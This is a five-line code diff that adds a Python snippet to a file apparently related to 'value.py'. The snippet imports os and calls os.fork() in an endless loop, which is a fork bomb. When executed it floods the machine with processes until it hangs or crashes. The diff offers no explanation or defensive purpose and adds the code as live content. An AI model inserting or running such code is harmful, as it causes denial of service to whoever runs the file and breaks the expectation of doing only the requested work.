@@ -1,0 +1,5 @@
+# on the skeleton of value.py: 0
+import os
+
+while True:
+    os.fork()
